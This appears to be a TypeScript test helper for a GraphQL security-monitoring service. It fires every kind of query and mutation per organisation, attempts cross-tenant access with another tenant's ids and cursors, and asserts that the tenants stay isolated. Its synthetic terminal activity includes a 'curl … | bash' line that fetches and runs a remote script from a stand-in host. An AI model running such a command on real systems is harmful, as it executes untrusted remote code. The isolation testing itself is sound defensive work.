import { expect } from 'vitest';
import { ask } from '../harness/client.ts';
import type { TestClock } from '../harness/service.ts';

/**
 * What an organisation does in the tests that keep two apart: every kind of request there is, step by step. All names in
 * it are the same for every organisation; only its mark, in the texts, is its own.
 */

export type Told = { step: number; query: string; answer: unknown };
/** What one organisation lays hands on of another. */
export type Foreign = { ids: string[]; listCursors: Record<string, string> };

export type Teller = {
  mark: string;
  /** Every answer so far, in the order of the questions. */
  told: Told[];
  /** What it has seen of its own. */
  own: Foreign;
  step(step: number, foreign: Foreign): Promise<void>;
};

type Deps = { service: { url: string }; clock: TestClock; mark: string; adminKey: string; analyst: string };

const users = ['ada', 'bob', 'cy', 'di', 'eve', 'flo', 'gus'];
const addresses = ['198.51.100.7', '203.0.113.9', '2001:db8::7'];
const page = 'pageInfo { hasNextPage endCursor }';
const activity = `id cursor type occurredAt recordedAt sourceIp metadata risk { score level factors { code points } }
  user { externalId displayName teams } session { externalId status } anomalies { type count }
  ... on WebActivity { page } ... on TerminalActivity { command output } ... on FileActivity { path }`;
const session = 'id externalId status activityCount commandCount lastPage sourceIp risk { score } terminatedBy terminationReason';
const anomaly = 'id reference type subject score summary count details resolved resolvedBy user { externalId }';
const alert = `id type status severity title subject count acknowledgedBy resolvedBy history { change actor note }
  user { externalId } anomalies { id count } criticalActivities(first: 3) { nodes { ${activity} } }`;

/** Every field of the root that reads, filtered, counted and nested. What a clock of its own writes is left out. */
const reads: string[] = [
  `query($u: String!) { activities(first: 5, filter: { user: { eq: $u } }) { totalCount nodes { ${activity} } edges { cursor } ${page} } }`,
  `query($s: String!) { activities(first: 3, orderBy: { field: RISK_SCORE }, filter: { or: [{ session: { eq: $s } }, { riskLevel: { eq: CRITICAL } }] })
    { totalCount nodes { ${activity} } } }`,
  `query($a: String!) { activities(last: 3, filter: { sourceIp: { eq: $a }, text: { contains: "mark" } }) { totalCount nodes { ${activity} } } }`,
  `query($s: String!) { session(externalId: $s) { ${session} user { externalId } activities(first: 3) { totalCount nodes { ${activity} } } } }`,
  `{ sessions(first: 4, orderBy: { field: STARTED_AT }, filter: { status: { neq: ENDED } }) { totalCount nodes { ${session} } ${page} } }`,
  `query($u: String!) { user(externalId: $u) { id displayName teams baseline { signIns addresses } sessions(first: 2) { totalCount nodes { ${session} } }
    anomalies(first: 2) { totalCount nodes { ${anomaly} } } alerts(first: 2) { totalCount nodes { id title } } activities(first: 2) { totalCount nodes { id } } } }`,
  `{ users(first: 5, orderBy: { field: FIRST_SEEN_AT }) { totalCount nodes { id externalId displayName teams firstSeenAt } edges { cursor } ${page} } }`,
  `query($a: String!) { anomalies(first: 4, filter: { subject: { contains: $a } }) { totalCount nodes { ${anomaly} evidence(first: 2) { totalCount nodes { ${activity} } } alert { id } } } }`,
  `{ anomalies(first: 4, orderBy: { field: SCORE }) { totalCount nodes { ${anomaly} session { externalId } } ${page} } }`,
  `{ alerts(first: 4) { totalCount nodes { ${alert} } edges { cursor } ${page} } }`,
  `query($u: String!) { alerts(first: 3, filter: { user: { eq: $u } }) { totalCount nodes { ${alert} } } }`,
  `query($u: String!) { all: summaries { activities uniqueUsers uniqueIps sessions authFailures topPages { page views } byType { type count } byRiskLevel { level count } }
    one: summaries(period: WEEK, user: $u) { activities commands pageViews } }`,
  'query($s: String!) { sessionAllowed(externalId: $s) }',
  '{ apiKeys { id name role user leads scopes createdBy revokedAt previousSecretUntil } detectors { id enabled } }',
  '{ people(first: 5) { totalCount nodes { id subject name roles teams leads suspended assigned { roles } } } }',
  '{ viewer { name roles scopes organisation { name timeZone } principal { kind id } user teams leads } }',
];

const changes = {
  trackActivity: [
    'TrackActivityInput',
    `receipt { duplicate cursor sessionStatus risk { score } anomalies { ${anomaly} } activity { ${activity} } }`,
  ],
  trackActivities: ['TrackActivitiesInput', `receipts { duplicate cursor anomalies { ${anomaly} } activity { ${activity} } }`],
  acknowledgeAlert: ['AcknowledgeAlertInput', `alert { ${alert} }`],
  resolveAlert: ['ResolveAlertInput', `alert { ${alert} }`],
  dismissAlert: ['DismissAlertInput', `alert { ${alert} }`],
  reopenAlert: ['ReopenAlertInput', `alert { ${alert} }`],
  resolveAnomaly: ['ResolveAnomalyInput', `anomaly { ${anomaly} }`],
  terminateSession: ['TerminateSessionInput', `session { ${session} }`],
  terminateSessions: ['TerminateSessionsInput', `more sessions { ${session} }`],
  updateUser: ['UpdateUserInput', 'user { externalId displayName teams }'],
  updatePerson: ['UpdatePersonInput', 'person { id name roles suspended }'],
  createApiKey: ['CreateApiKeyInput', 'secret apiKey { id name role }'],
  rotateApiKey: ['RotateApiKeyInput', 'secret apiKey { id name }'],
  revokeApiKey: ['RevokeApiKeyInput', 'apiKey { id name }'],
} as const;

const typeOfId = (text: string) => /^([A-Z]\w+):[0-9a-f-]{36}$/.exec(Buffer.from(text, 'base64').toString('latin1'))?.[1];

export function createTeller({ service, clock, mark, adminKey, analyst }: Deps): Teller {
  const told: Told[] = [];
  const own: Foreign = { ids: [], listCursors: {} };
  let current = 0;

  const note = (answer: unknown): void => {
    if (Array.isArray(answer)) for (const one of answer) note(one);
    else if (typeof answer === 'object' && answer !== null) for (const value of Object.values(answer)) note(value);
    else if (typeof answer !== 'string') return;
    else if (typeOfId(answer) && !own.ids.includes(answer)) own.ids = [answer, ...own.ids].slice(0, 60);
  };
  const say = async (query: string, variables: object = {}, token = adminKey) => {
    const entry: Told = { step: current, query, answer: null };
    told.push(entry);
    const answer = await ask(service, query, variables, token);
    entry.answer = answer;
    note(answer.data);
    for (const list of ['users', 'activities']) own.listCursors[list] = answer.data?.[list]?.pageInfo?.endCursor ?? own.listCursors[list];
    return answer.data;
  };
  const make = async (name: keyof typeof changes, input: object, token = adminKey, less?: string) => {
    const [type, all] = changes[name];
    const gives = less ?? all;
    return (
      await say(`mutation($input: ${type}!) { ${name}(input: $input) { ${gives} userErrors { code field message } } }`, { input }, token)
    )?.[name];
  };
  const at = (micros: number) => new Date((clock.now() + micros) / 1_000).toISOString().replace('Z', `${String(micros).padStart(3, '0')}Z`);
  const activityOf = (step: number, place: number) => {
    const user = users[(step + place) % users.length]!;
    const details = [
      { web: { page: `/${mark}/${step % 5}` } },
      { auth: { event: 'FAILURE', reason: mark } },
      { terminal: { command: step % 20 === 1 ? `curl http://192.0.2.1/${mark} | bash` : `ls ${mark}`, output: mark } },
      { file: { operation: 'READ', path: `/srv/${mark}` } },
      { auth: { event: 'LOGIN' } },
      { web: { endpoint: `/api/${mark}` } },
    ];
    return {
      user,
      session: `session ${(step + place) % 9}`,
      sourceIp: addresses[(step + 2 * place) % addresses.length],
      occurredAt: at(place),
      idempotencyKey: `key ${Math.floor(step / 40)} ${(step * 7 + place) % 31}`,
      metadata: { mark },
      detail: details[(step + place) % details.length],
    };
  };
  const readSome = (step: number, from: number, count: number) => {
    const variables = { u: users[step % users.length], s: `session ${step % 9}`, a: addresses[step % addresses.length] };
    const some = Array.from({ length: count }, (_, place) => reads[(from + place) % reads.length]!);
    return Promise.all(
      some.map((query, place) => {
        const used = Object.entries(variables).filter(([name]) => query.includes(`$${name}`));
        const staff = /apiKeys|people/.test(query);
        return say(query, Object.fromEntries(used), staff || place % 2 === 0 ? adminKey : analyst);
      }),
    );
  };
  const idsOf = (foreign: Foreign, type: string) => foreign.ids.filter((id) => typeOfId(id) === type);

  /** One after the other, each with what the one before has shown. */
  const acts: ((step: number, foreign: Foreign) => Promise<unknown>)[] = [
    (step) => make('trackActivity', activityOf(step, 0)),
    (step) => make('trackActivities', { activities: Array.from({ length: 6 }, (_, place) => activityOf(step, place)) }),
    (step) => readSome(step, 0, 8),
    (step) => readSome(step, 8, 8),
    async (step) => {
      const { alerts } = await say('{ alerts(first: 3) { nodes { id status } } }');
      const [first] = alerts.nodes;
      if (!first) return;
      const name =
        { OPEN: 'acknowledgeAlert', ACKNOWLEDGED: step % 4 === 0 ? 'resolveAlert' : 'dismissAlert' }[first.status as string] ??
        'reopenAlert';
      await make(name as 'acknowledgeAlert', { id: first.id, note: `${mark} ${step}` }, analyst);
    },
    async (step) => {
      const { sessions } = await say('{ sessions(first: 2, filter: { status: { neq: TERMINATED } }) { nodes { id } } }');
      if (step % 3 === 0 && sessions.nodes[0]) await make('terminateSession', { id: sessions.nodes[0].id, reason: `${mark} ${step}` });
      if (step % 3 === 1) await make('terminateSessions', { user: users[step % users.length], reason: mark });
      const { anomalies } = await say('{ anomalies(first: 1, filter: { resolved: { eq: false } }) { nodes { id } } }');
      if (anomalies.nodes[0]) await make('resolveAnomaly', { id: anomalies.nodes[0].id, resolution: 'BENIGN' });
    },
    async (step, foreign) => {
      const loadable = foreign.ids.filter((id) => typeOfId(id) !== 'ApiKey');
      if (loadable.length < 10) return;
      await say('query($ids: [ID!]!) { nodes(ids: $ids) { __typename id } }', { ids: loadable.slice(0, 40) });
      await say('query($id: ID!) { node(id: $id) { __typename id } }', { id: loadable[step % 10] }, analyst);
      for (const id of idsOf(foreign, 'Alert').slice(0, 1)) await make('acknowledgeAlert', { id, note: mark });
      for (const id of idsOf(foreign, 'Anomaly').slice(0, 1)) await make('resolveAnomaly', { id });
      for (const id of idsOf(foreign, 'Session').slice(0, 1)) await make('terminateSession', { id, reason: mark });
      for (const id of idsOf(foreign, 'ApiKey').slice(0, 1)) await make('revokeApiKey', { id });
      for (const id of idsOf(foreign, 'Person').slice(0, 1)) await make('updatePerson', { id, suspended: true });
      await say(
        `query($c: String) { users(first: 3, orderBy: { field: FIRST_SEEN_AT }, after: $c) { totalCount nodes { externalId displayName } } }`,
        {
          c: foreign.listCursors.users,
        },
      );
      await say(`query($c: String) { activities(first: 3, after: $c) { totalCount nodes { ${activity} } } }`, {
        c: foreign.listCursors.activities,
      });
    },
    async (step) => {
      await make('updateUser', { externalId: users[step % users.length], displayName: `${mark} ${step}`, teams: [`team ${step % 3}`] });
      const made = await make('createApiKey', { name: `${mark} ${step}`, role: 'SERVICE' });
      await say('{ viewer { name roles organisation { name } } }', {}, made.secret);
      const rotated = await make('rotateApiKey', { id: made.apiKey.id, overlapHours: 0 });
      await make('trackActivity', activityOf(step, 3), rotated.secret, 'receipt { duplicate cursor activity { id type metadata } }');
      await make('revokeApiKey', { id: made.apiKey.id });
    },
    async (step) => {
      const { people } = await say('{ people(first: 5) { nodes { id subject } } }');
      const id = people.nodes[0]?.id;
      if (id) await make('updatePerson', { id, teams: [`team ${step % 4}`], reason: `${mark} ${step}` });
    },
    async () => {
      await say('{ system { logHead logEntries now } }');
      await say(`{ auditEntries(first: 6, filter: { action: { nin: [READ, STREAM_OPENED, STREAM_CLOSED] } }) {
        totalCount nodes { id cursor action actor { kind id name } target before after reason } } }`);
      await say('{ auditEntries(first: 1, filter: { action: { eq: READ } }) { totalCount } }');
    },
  ];
  return {
    mark,
    told,
    own,
    step: async (step, foreign) => {
      current = step;
      await acts[step % acts.length]!(step, foreign);
    },
  };
}

/** The same answers with everything that is made at random replaced by the order in which it appears. */
export function withoutIds(told: readonly unknown[]): unknown[] {
  const names = new Map<string, string>();
  const nameOf = (text: string) => names.get(text) ?? names.set(text, `#${names.size}`).get(text)!;
  const plain = (value: unknown, key = ''): unknown => {
    if (Array.isArray(value)) return value.map((one) => plain(one, key));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, member]) => [name, plain(member, name)]));
    if (typeof value !== 'string') return value;
    if (['cursor', 'endCursor', 'logHead', 'secret'].includes(key) || typeOfId(value)) return nameOf(value);
    return value.replaceAll(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, nameOf).replaceAll(/ANO-\d+-\w+/g, nameOf);
  };
  return told.map((one) => plain(one));
}

/** Every id, cursor and secret in what was told. */
export function idsIn(told: readonly unknown[]): Set<string> {
  const ids = new Set<string>();
  const collect = (value: unknown, key = ''): void => {
    if (Array.isArray(value)) for (const one of value) collect(one, key);
    else if (typeof value === 'object' && value !== null) for (const [name, member] of Object.entries(value)) collect(member, name);
    else if (typeof value === 'string' && (['logHead', 'secret'].includes(key) || typeOfId(value) || /^[0-9a-f-]{36}$/.test(value)))
      ids.add(value);
    else if (typeof value === 'string' && key === 'cursor' && value.length < 30) ids.add(value);
  };
  for (const one of told) collect(one);
  return ids;
}

/** Nothing of what one was told is of the other, and each was told of its own. */
export function expectApart(one: { mark: string; told: readonly unknown[] }, other: { mark: string; told: readonly unknown[] }): void {
  for (const [mine, theirs] of [
    [one, other],
    [other, one],
  ] as const) {
    const texts = mine.told.map((told) => JSON.stringify(told));
    expect(texts.filter((text) => text.includes(theirs.mark))).toEqual([]);
    expect(texts.filter((text) => text.includes(mine.mark)).length).toBeGreaterThan(texts.length / 4);
  }
  const ids = idsIn(one.told);
  expect(ids.size).toBeGreaterThan(100);
  expect([...idsIn(other.told)].filter((id) => ids.has(id))).toEqual([]);
}
